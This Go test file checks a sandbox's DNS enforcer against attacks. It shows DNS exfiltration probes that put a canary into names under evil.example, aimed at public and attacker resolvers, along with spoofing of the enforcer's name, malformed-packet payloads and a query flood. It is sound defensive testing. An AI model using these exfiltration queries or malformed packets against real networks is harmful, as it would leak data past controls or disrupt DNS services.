package dns

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"bottled/attack"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/time/rate"
)

// authority is a name server of the attacker's, outside the bottle, and what it was asked.
type authority struct {
	conn net.PacketConn
	mu   sync.Mutex
	log  []string
}

func newAuthority(t *testing.T) *authority {
	t.Helper()
	conn, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a := &authority{conn: conn}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 2048)
		for {
			n, src, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			var m dnsmessage.Message
			if m.Unpack(buf[:n]) != nil || len(m.Questions) == 0 {
				continue
			}
			a.mu.Lock()
			a.log = append(a.log, m.Questions[0].Name.String())
			a.mu.Unlock()
			m.Response = true
			out, _ := m.Pack()
			conn.WriteTo(out, src)
		}
	}()
	t.Cleanup(func() { conn.Close(); <-done })
	return a
}

// saw reports whether the canary reached the authority.
func (a *authority) saw(canary string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Contains(strings.Join(a.log, " "), canary)
}

// forward is what a bottle without enforcement has on port 53: a stub that passes every
// query on to the authority.
func (ns *namespace) forward(t *testing.T, a *authority) {
	t.Helper()
	var in net.PacketConn
	ns.run(func() {
		var err error
		if in, err = net.ListenPacket("udp4", "0.0.0.0:53"); err != nil {
			t.Error(err)
		}
	})
	out, err := net.Dial("udp4", a.conn.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 2048)
		for {
			n, _, err := in.ReadFrom(buf)
			if err != nil {
				return
			}
			out.Write(buf[:n])
		}
	}()
	t.Cleanup(func() { in.Close(); out.Close(); <-done })
}

// exfiltrate asks server for name, over and over in the ways a stub resolver would, and succeeds
// if the canary in it reaches the authority.
func exfiltrate(ns *namespace, a *authority, server, name, canary string) attack.Probe {
	return func(t *testing.T) error {
		conn, err := ns.dial("udp", server)
		if err != nil {
			return err
		}
		defer conn.Close()
		var answers []string
		for _, qtype := range []dnsmessage.Type{dnsmessage.TypeA, dnsmessage.TypeAAAA, dnsmessage.TypeTXT, dnsmessage.TypeHTTPS, dnsmessage.TypePTR, 10 /* NULL */} {
			conn.SetDeadline(time.Now().Add(300 * time.Millisecond))
			if _, err := conn.Write(newQuery(name, qtype)); err != nil {
				return err
			}
			buf := make([]byte, 2048)
			if n, err := conn.Read(buf); err == nil {
				var m dnsmessage.Message
				if err := m.Unpack(buf[:n]); err != nil {
					return err
				}
				answers = append(answers, codeName(m.RCode))
			}
			if a.saw(canary) {
				return nil
			}
		}
		return fmt.Errorf("answered locally (%s); the outside name server saw nothing", strings.Join(answers, " "))
	}
}

func TestAttackNoQueryLeaves(t *testing.T) {
	open, sealed := newNamespace(t), newNamespace(t)
	outside := newAuthority(t)
	open.forward(t, outside)
	sealed.serve(t, NewServer(NewPool(), nil))
	for _, row := range []struct{ id, what, server, name string }{
		{"D01", "query to a public resolver", "8.8.8.8:53", "%s.evil.example."},
		{"D01", "query to a resolver of the host", "192.168.1.1:53", "%s.evil.example."},
		{"D01", "query to the attacker's own server", "203.0.113.9:53", "%s.evil.example."},
		{"D06", "secret in a denied name", "127.0.0.53:53", "%s.denied.example."},
		{"D10", "multicast name", "8.8.8.8:53", "%s.local."},
		{"D13", "single label, for a search list to complete", "8.8.8.8:53", "%s."},
		{"D13", "name that a search list completed", "8.8.8.8:53", "%s.corp.internal."},
	} {
		probe := func(ns *namespace, canary string) attack.Probe {
			return exfiltrate(ns, outside, row.server, fmt.Sprintf(row.name, canary), canary)
		}
		attack.Stopped(t, row.id, row.what, probe(open, "control"+randomLabel()), probe(sealed, "canary"+randomLabel()))
	}
}

var labels int

func randomLabel() string { labels++; return fmt.Sprintf("%d-%d", time.Now().UnixNano(), labels) }

// TestAttackMagicName has somebody else try to be the enforcer's name.
func TestAttackMagicName(t *testing.T) {
	spoof := func(classify func(pool *Pool) netip.Addr) attack.Probe {
		return func(*testing.T) error {
			pool := NewPool()
			addr := classify(pool)
			if host, ok := pool.Name(addr); ok && !host.IsMagic() {
				return nil // an address behind which a route can stand
			}
			if !addr.IsValid() {
				return errors.New("does not exist")
			}
			return fmt.Errorf("always %v, which is the enforcer's", addr)
		}
	}
	resolve := func(name string) func(*Pool) netip.Addr {
		return func(pool *Pool) netip.Addr {
			s := NewServer(pool, nil)
			defer s.Close()
			q, err := parse(newQuery(name, dnsmessage.TypeA))
			if err != nil {
				t.Fatal(err)
			}
			_, addr := s.answer(q)
			return addr
		}
	}
	control := spoof(resolve("ordinary.example.com."))
	for _, name := range []string{"_egress-proxy.local.", "_EGRESS-PROXY.LOCAL.", "egress-proxy.", "x.egress-proxy.", "x._egress-proxy.local."} {
		attack.Stopped(t, "D10", "other address for "+name, control, spoof(resolve(name)))
	}
}

// TestAttackParser sends the responder what a parser may fall over; it succeeds if one of the
// messages gets an address or the next ordinary query gets none.
func TestAttackParser(t *testing.T) {
	s := NewServer(NewPool(), nil)
	defer s.Close()
	probe := func(msg []byte) attack.Probe {
		return func(t *testing.T) error {
			if got := exchange(t, s, msg); len(got.Answers) > 0 {
				return nil
			} else if next := exchange(t, s, newQuery("next.example.com.", dnsmessage.TypeA)); len(next.Answers) != 1 {
				return nil
			} else {
				return errors.New(got.text + ", and the next query was served")
			}
		}
	}
	good := newQuery("a.example.com.", dnsmessage.TypeA)
	head := func(rest ...byte) []byte { return append(good[:12:12], rest...) }
	for name, msg := range map[string][]byte{
		"compression loop":   head(0xc0, 12, 0, 1, 0, 1),
		"NUL in a label":     head(3, 'a', 0, 'b', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1),
		"dot in a label":     head(3, 'a', '.', 'b', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1),
		"no question":        append(good[:4:4], make([]byte, 8)...),
		"100 questions":      append([]byte{0, 1, 1, 0, 0, 100, 0, 0, 0, 0, 0, 0}, good[12:]...),
		"truncated":          good[:20],
		"response":           append([]byte{0, 1, 0x81, 0x80}, good[4:]...),
		"EDNS of 64 KiB":     append(append([]byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1}, good[12:]...), 0, 0, 41, 255, 255, 0, 0, 0, 0, 255, 255),
		"label of 192 bytes": head(append([]byte{0xbf}, make([]byte, 200)...)...),
		"everything at once": head(0xff, 0xff, 0xff, 0xff, 0xff),
	} {
		attack.Stopped(t, "D16", name, probe(good), probe(msg))
	}
}

// TestAttackFlood floods one bottle's responder and looks how much of it is worked on, and
// whether another bottle's answers meanwhile.
func TestAttackFlood(t *testing.T) {
	const length = time.Second
	const budget = QueryBurst + 2*QueryRate
	flood := func(limit rate.Limit) attack.Probe {
		return func(t *testing.T) error {
			ns, other := newNamespace(t), newNamespace(t)
			var worked int // only touched by the one goroutine that serves the family
			s := NewServer(NewPool(), func(Query) { worked++ })
			s.limit = rate.NewLimiter(limit, QueryBurst)
			ns.serve(t, s)
			other.serve(t, NewServer(NewPool(), nil))
			conn, err := ns.dial("udp", "8.8.8.8:53")
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			second, err := other.dial("udp", "8.8.8.8:53")
			if err != nil {
				t.Fatal(err)
			}
			defer second.Close()
			for start, n := time.Now(), 0; time.Since(start) < length; n++ {
				conn.Write(newQuery(fmt.Sprintf("h%d.example.com.", n), dnsmessage.TypeA))
				if n%1000 == 0 {
					if _, err := ask(second, newQuery("a.example.com.", dnsmessage.TypeA)); err != nil {
						t.Errorf("the second bottle: %v", err)
					}
				}
			}
			s.Close()
			if worked > budget {
				return nil
			}
			return fmt.Errorf("%d queries worked on in %v, the second bottle was served", worked, length)
		}
	}
	attack.Stopped(t, "D19", "flood of queries", flood(rate.Inf), flood(QueryRate))
}
